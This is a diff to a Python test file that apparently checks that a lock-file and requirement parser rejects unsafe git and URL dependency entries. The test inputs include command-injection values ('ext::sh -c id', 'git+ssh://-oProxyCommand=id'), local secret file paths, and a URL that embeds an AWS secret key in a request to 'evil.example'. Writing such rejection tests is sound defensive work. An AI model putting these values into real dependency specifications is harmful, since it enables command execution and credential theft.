@@ -89,6 +89,8 @@ def test_no_index_of_a_lock_is_more_than_one_address(said: str) -> None:
         f'[packages.vcs]\ntype = "git"\nurl = "ext::sh -c id"\ncommit-id = "{COMMIT}"',
         f'[packages.vcs]\ntype = "git"\nurl = "file:///home/user/secret"\ncommit-id = "{COMMIT}"',
         '[packages.vcs]\ntype = "git"\nurl = "https://x.example/a"\ncommit-id = "main"',
+        f'[packages.vcs]\ntype = "git"\nurl = "https://x.example/a?b="\ncommit-id = "{COMMIT}"',
+        f'[packages.vcs]\ntype = "git"\nurl = "https://x.example/a#b"\ncommit-id = "{COMMIT}"',
     ],
 )
 def test_nothing_of_a_pylock_becomes_more_words_another_file_or_what_can_change(part: str) -> None:
@@ -106,6 +108,10 @@ def test_nothing_of_a_pylock_becomes_more_words_another_file_or_what_can_change(
         f"a @ git+file:///home/user/secret@{COMMIT}",
         f"a @ git+https://x.example/a@main --hash=sha256:{SHA}",
         f"a @ git+http://x.example/a@{COMMIT}",
+        f"a @ git+https://x.example/a?b=@{COMMIT}",
+        f"a @ git+https://x.example/a#egg=b@{COMMIT}",
+        f"a @ git+ssh://-oProxyCommand=id/a@{COMMIT}",
+        f"a @ git+ssh://x@-oProxyCommand=id/a@{COMMIT}",
         f"a @ git+https://x.example/a@{COMMIT}#subdirectory=../..",
         f"a @ https://evil.example/${{AWS_SECRET_ACCESS_KEY}}.tar.gz --hash=sha256:{SHA}",
         "a @ https://x.example/a.tar.gz#sha256=",
